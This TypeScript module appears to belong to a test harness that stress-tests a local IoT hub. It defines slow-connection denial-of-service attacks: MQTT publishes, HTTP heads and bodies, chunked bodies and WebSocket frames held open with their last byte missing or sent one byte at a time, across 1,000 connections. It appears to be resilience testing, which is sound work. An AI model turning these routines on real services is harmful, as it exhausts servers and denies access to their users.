// Packets, requests and frames whose last byte never comes, on as many connections as the hub has places for.
import { Attack, portion, type StartAttack, times } from "./attack.ts";
import { httpPost, httpPostHead, mqttConnect, mqttPublish, webSocketFrame, webSocketUpgrade } from "./encode.ts";
import type { StreamPlan } from "./raw-stream.ts";

/** 200 from each of the attackers' five addresses. */
const CONNECTIONS = 1_000;
const PACKET_PAYLOAD_BYTES = 1_000_000;
const BODY_BYTES = 256 * 1024;
const HEAD_BYTES = 15_000;

const withoutLastByte = (bytes: Buffer) => bytes.subarray(0, -1);

interface Unfinished {
  readonly opening: () => Buffer;
  readonly awaitsAnswer: boolean;
  /** Shared by all connections: only the hub should have to hold copies. */
  readonly bytes: Buffer;
  readonly trickle?: Buffer;
}

const hold =
  (transport: "mqttPort" | "httpPort", unfinished: () => Unfinished): StartAttack =>
  (target, size) => {
    const { opening, bytes, ...rest } = unfinished();
    const plan = (): StreamPlan => ({
      ...rest,
      port: target[transport],
      opening: opening(),
      reads: true,
      next: (round) => (round === 0 ? bytes : null),
    });
    return new Attack(times(portion(CONNECTIONS, size), plan));
  };

const publish = () => mqttPublish({ topic: "sensor/data", payload: Buffer.alloc(PACKET_PAYLOAD_BYTES, "a") });

export const unfinishedPublishes = hold("mqttPort", () => ({
  opening: mqttConnect,
  awaitsAnswer: true,
  bytes: withoutLastByte(publish()),
}));

/** Half a packet at once, and one byte more each second. */
export const trickledPublishes = hold("mqttPort", () => ({
  opening: mqttConnect,
  awaitsAnswer: true,
  bytes: publish().subarray(0, PACKET_PAYLOAD_BYTES / 2),
  trickle: Buffer.from("a"),
}));

export const unfinishedHttpHeads = hold("httpPort", () => ({
  opening: () => Buffer.from("POST /data HTTP/1.1\r\nHost: 127.0.0.1\r\n"),
  awaitsAnswer: false,
  bytes: Buffer.from(`X-Padding: ${"a".repeat(HEAD_BYTES)}`),
}));

export const unfinishedHttpBodies = hold("httpPort", () => ({
  opening: () => Buffer.from(httpPostHead("/data", BODY_BYTES)),
  awaitsAnswer: false,
  bytes: Buffer.alloc(BODY_BYTES - 1, "a"),
}));

export const trickledHttpBodies = hold("httpPort", () => ({
  opening: () => withoutLastByte(httpPost("/data", "a".repeat(BODY_BYTES / 2))),
  awaitsAnswer: false,
  bytes: Buffer.alloc(0),
  trickle: Buffer.from("a"),
}));

/** In chunks of a byte, of which none is the last. */
export const chunkedHttpBodies = hold("httpPort", () => ({
  opening: () =>
    Buffer.from(
      "POST /data HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
    ),
  awaitsAnswer: false,
  bytes: Buffer.from("1\r\na\r\n".repeat(BODY_BYTES / 2)),
}));

export const unfinishedWebSocketFrames = hold("httpPort", () => ({
  opening: () => webSocketUpgrade("/ws"),
  awaitsAnswer: true,
  bytes: withoutLastByte(webSocketFrame("a".repeat(BODY_BYTES - 1))),
}));
